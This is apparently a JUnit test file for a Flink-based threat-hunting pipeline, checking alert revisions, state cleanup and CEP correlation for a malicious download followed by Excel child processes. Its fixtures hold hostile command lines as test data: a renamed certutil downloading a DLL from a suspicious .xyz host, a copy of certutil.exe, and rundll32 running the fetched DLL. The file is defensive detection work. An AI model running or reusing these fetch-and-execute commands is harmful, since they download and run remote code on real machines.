package dev.bazahunt.job.pipeline;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import dev.bazahunt.correlation.CorrelationEvent;
import dev.bazahunt.correlation.CorrelationLink;
import dev.bazahunt.correlation.DownloadRow;
import dev.bazahunt.correlation.ExcelChildEvent;
import dev.bazahunt.rules.RuleIds;
import dev.bazahunt.telemetry.DeviceFileEvent;
import dev.bazahunt.telemetry.DeviceProcessEvent;
import java.time.Duration;
import java.util.ArrayList;
import java.util.List;
import java.util.concurrent.ConcurrentLinkedQueue;
import org.apache.flink.api.common.serialization.SerializerConfigImpl;
import org.apache.flink.api.common.typeinfo.TypeInformation;
import org.apache.flink.api.common.typeinfo.Types;
import org.apache.flink.cep.nfa.compiler.NFACompiler;
import org.apache.flink.cep.operator.CepOperator;
import org.apache.flink.streaming.api.operators.KeyedProcessOperator;
import org.apache.flink.streaming.api.operators.co.KeyedCoProcessOperator;
import org.apache.flink.streaming.runtime.streamrecord.StreamRecord;
import org.apache.flink.streaming.util.KeyedOneInputStreamOperatorTestHarness;
import org.apache.flink.streaming.util.KeyedTwoInputStreamOperatorTestHarness;
import org.junit.jupiter.api.Test;

/**
 * The hunt's keyed state, operator by operator in Flink's test harnesses: what each keeps, that it is
 * cleared once event time has passed, and what revisions a row after the retention gets.
 */
class KeyedStateLifecycleTest {
    private static final ObjectMapper JSON = new ObjectMapper();
    private static final Duration WINDOW = Duration.ofMinutes(30);
    private static final Duration RETENTION = Duration.ofHours(1);
    private static final String DEVICE = "c3d5e7f9a1b2c3d4e5f60718293a4b5c6d7e8f90";
    /** 2021-07-20T14:02:58Z. */
    private static final long T = 1_626_789_778_000L;
    private static final long MINUTE = 60_000L;

    private static DownloadRow download(long millis, long reportId, String folderPath) {
        DeviceFileEvent event = new DeviceFileEvent();
        event.deviceId = DEVICE;
        event.timestamp = millis * 1_000_000L;
        event.reportId = reportId;
        event.fileName = "tmp1834.dll";
        event.folderPath = folderPath;
        event.initiatingProcessId = 7212L;
        event.initiatingProcessCreationTime = (T - 120) * 1_000_000L;
        event.initiatingProcessFileName = "x8k2.exe";
        event.initiatingProcessCommandLine =
                "x8k2.exe  -urlcache -split -f http://pshe0pxe339.xyz/xe1t23ym0s.php C:\\Users\\Public\\x8k2\\tmp1834.dll";
        return DownloadRow.from(event, RuleIds.CERTUTIL_DOWNLOAD);
    }

    private static ExcelChildEvent child(long millis, long reportId, String fileName, String commandLine) {
        DeviceProcessEvent event = new DeviceProcessEvent();
        event.deviceId = DEVICE;
        event.timestamp = millis * 1_000_000L;
        event.reportId = reportId;
        event.processId = 6000 + reportId;
        event.fileName = fileName;
        event.processCommandLine = commandLine;
        event.initiatingProcessFileName = "EXCEL.EXE";
        event.initiatingProcessId = 5120L;
        return ExcelChildEvent.from(event);
    }

    private static KeyedTwoInputStreamOperatorTestHarness<String, DownloadRow, CorrelationLink, AlertRecord> alertHarness(
            RevisionPolicy policy) throws Exception {
        var harness = new KeyedTwoInputStreamOperatorTestHarness<>(
                new KeyedCoProcessOperator<>(new DownloadAlertFunction(WINDOW, policy, RETENTION, Duration.ofDays(30))),
                DownloadRow::alertKey, link -> link.downloadKey, Types.STRING);
        harness.open();
        return harness;
    }

    private static List<AlertRecord> alerts(ConcurrentLinkedQueue<Object> output) {
        List<AlertRecord> alerts = new ArrayList<>();
        for (Object element : output) {
            if (element instanceof StreamRecord<?> record && record.getValue() instanceof AlertRecord alert) {
                alerts.add(alert);
            }
        }
        return alerts;
    }

    @Test
    void aRowAfterTheRetentionContinuesTheRevisionsAndARepeatOfTheLastContentIsNotWritten() throws Exception {
        try (var harness = alertHarness(RevisionPolicy.EVERY_CHANGE)) {
            DownloadRow payload = download(T, 18052, "C:\\Users\\Public\\x8k2\\tmp1834.dll");
            harness.processElement1(payload, T);
            assertThat(alerts(harness.getOutput())).extracting(a -> a.revision).containsExactly(1);

            // The alert state is cleared once the window and the retention have passed ...
            harness.processBothWatermarks(new org.apache.flink.streaming.api.watermark.Watermark(
                    T + WINDOW.toMillis() + RETENTION.toMillis() + 1));
            assertThat(harness.numEventTimeTimers()).isZero();
            harness.getOutput().clear();

            // ... a re-delivery of the same row is what was written last: nothing goes out ...
            harness.processElement1(payload, T);
            assertThat(alerts(harness.getOutput())).isEmpty();
            // ... and new evidence, days later (a laptop back from a weekend), is Revision 2, not 1.
            harness.processElement1(download(T + 1, 18100, "C:\\Users\\m.ortiz\\AppData\\CryptnetUrlCache\\Content\\9B1F"), T + 1);
            List<AlertRecord> late = alerts(harness.getOutput());
            assertThat(late).extracting(a -> a.revision).containsExactly(2);
            assertThat(JSON.readTree(late.get(0).json).get("ReportIds")).hasSize(2);
        }
    }

    @Test
    void alertStateAndTimersAreClearedOnceTheWindowHasClosed() throws Exception {
        try (var harness = alertHarness(RevisionPolicy.FINAL)) {
            DownloadRow payload = download(T, 18052, "C:\\Users\\Public\\x8k2\\tmp1834.dll");
            harness.processElement1(payload, T);
            CorrelationEvent downloadEvent = CorrelationEvent.of(payload);
            harness.processElement2(CorrelationLink.of(downloadEvent,
                    child(T + 5 * MINUTE, 18100, "rundll32.exe", "rundll32.exe C:\\Users\\Public\\x8k2\\tmp1834.dll,GlobalOut")),
                    T + 5 * MINUTE);
            harness.processElement2(CorrelationLink.omitted(payload.alertKey(), payload.timestamp, 7), T + 5 * MINUTE);
            assertThat(harness.numKeyedStateEntries()).isEqualTo(1);
            assertThat(harness.numEventTimeTimers()).isEqualTo(1);
            harness.processBothWatermarks(new org.apache.flink.streaming.api.watermark.Watermark(
                    T + WINDOW.toMillis() + RETENTION.toMillis() + 1));
            assertThat(harness.numKeyedStateEntries()).isZero();
            assertThat(harness.numEventTimeTimers()).isZero();
            List<AlertRecord> written = alerts(harness.getOutput());
            assertThat(written).extracting(a -> a.correlated).containsExactly(false, true);
            assertThat(JSON.readTree(written.get(1).json).get("ExcelChildrenOmitted").asInt()).isEqualTo(7);
        }
    }

    @Test
    void suppressionStateIsClearedOnceNoRevisionCanArrive() throws Exception {
        Duration suppress = Duration.ofHours(1);
        try (var harness = new KeyedOneInputStreamOperatorTestHarness<>(
                new KeyedProcessOperator<>(new SuppressRepeats(suppress, WINDOW.plus(RETENTION))),
                (AlertRecord alert) -> alert.suppressionKey, Types.STRING)) {
            harness.open();
            harness.processElement(new AlertRecord("a1", 1, RuleIds.CERTUTIL_DOWNLOAD, DEVICE, "t", false, T, "k", "{}"), T);
            harness.processElement(new AlertRecord("a2", 1, RuleIds.CERTUTIL_DOWNLOAD, DEVICE, "t", false,
                    T + 10 * MINUTE, "k", "{}"), T + 10 * MINUTE);
            harness.processWatermark(T + 10 * MINUTE);
            assertThat(harness.extractOutputValues()).extracting(a -> a.alertId).containsExactly("a1");
            assertThat(harness.numKeyedStateEntries()).isPositive();
            harness.processWatermark(T + 10 * MINUTE + suppress.toMillis() + WINDOW.plus(RETENTION).toMillis() + 1);
            assertThat(harness.numKeyedStateEntries()).isZero();
            assertThat(harness.numEventTimeTimers()).isZero();
        }
    }

    @Test
    void cepStateIsClearedOnceTheWindowHasPassed() throws Exception {
        CepOperator<CorrelationEvent, String, CorrelationLink> cep = new CepOperator<>(
                TypeInformation.of(CorrelationEvent.class).createSerializer(new SerializerConfigImpl()), false,
                NFACompiler.compileFactory(BazaCallPattern.within(WINDOW), false), null, null,
                new LinkDownloadToExcel(), HuntPipeline.LATE);
        try (var harness = new KeyedOneInputStreamOperatorTestHarness<>(cep,
                (CorrelationEvent event) -> event.deviceId, Types.STRING)) {
            harness.open();
            DownloadRow payload = download(T, 18052, "C:\\Users\\Public\\x8k2\\tmp1834.dll");
            harness.processElement(CorrelationEvent.of(DEVICE, child(T - MINUTE, 18000, "cmd.exe",
                    "cmd.exe /c mkdir C:\\Users\\Public\\x8k2 && copy C:\\Windows\\System32\\certutil.exe x8k2.exe")), T - MINUTE);
            harness.processElement(CorrelationEvent.of(payload), T);
            harness.processWatermark(T);
            assertThat(harness.extractOutputValues()).singleElement()
                    .satisfies(link -> assertThat(link.downloadKey).isEqualTo(payload.alertKey()));
            int whileOpen = harness.numKeyedStateEntries();
            harness.processWatermark(T + WINDOW.toMillis() + 2);
            // No buffered events, no partial matches, no shared-buffer entries, no timers.
            assertThat(whileOpen).isPositive();
            assertThat(harness.numKeyedStateEntries()).isZero();
            assertThat(harness.numEventTimeTimers()).isZero();
        }
    }

    @Test
    void aBusyHostKeepsEveryStageBearingChildAndAtMostTheBudgetOfOthersAndCountsTheRest() throws Exception {
        int budget = 3;
        try (var harness = new KeyedOneInputStreamOperatorTestHarness<>(
                new KeyedProcessOperator<>(new BoundExcelChildren(WINDOW, budget)),
                (CorrelationEvent event) -> event.deviceId, Types.STRING)) {
            harness.open();
            DownloadRow payload = download(T, 18052, "C:\\Users\\Public\\x8k2\\tmp1834.dll");
            // Arrival order is not decision order: the children come newest first.
            for (int i = 20; i >= 1; i--) {
                harness.processElement(CorrelationEvent.of(DEVICE, child(T + i * 1000L, 20_000 + i, "splwow64.exe",
                        "splwow64.exe 8192")), T + i * 1000L);
            }
            harness.processElement(CorrelationEvent.of(DEVICE, child(T + 30_000, 18100, "rundll32.exe",
                    "rundll32.exe C:\\Users\\Public\\x8k2\\tmp1834.dll,GlobalOut")), T + 30_000);
            harness.processElement(CorrelationEvent.of(payload), T);
            assertThat(harness.extractOutputValues()).isEmpty(); // waiting for the watermark, as CEP would
            harness.processWatermark(T + 40_000);

            List<CorrelationEvent> kept = harness.extractOutputValues();
            assertThat(kept).extracting(e -> e.isDownload() ? "download" : e.excelChild.reportId.toString())
                    .containsExactly("download", "20001", "20002", "20003", "18100");
            assertThat(harness.getSideOutput(BoundExcelChildren.OMISSIONS)).isNull(); // reported at the bucket's close
            long bucketEnd = (Math.floorDiv(T, WINDOW.toMillis()) + 1) * WINDOW.toMillis();
            harness.processWatermark(bucketEnd + 2 * WINDOW.toMillis());
            assertThat(harness.getSideOutput(BoundExcelChildren.OMISSIONS)).singleElement().satisfies(record -> {
                assertThat(record.getValue().downloadKey).isEqualTo(payload.alertKey());
                assertThat(record.getValue().excelChildrenOmitted).isEqualTo(17);
            });
            assertThat(harness.numKeyedStateEntries()).isZero();
            assertThat(harness.numEventTimeTimers()).isZero();
        }
    }
}
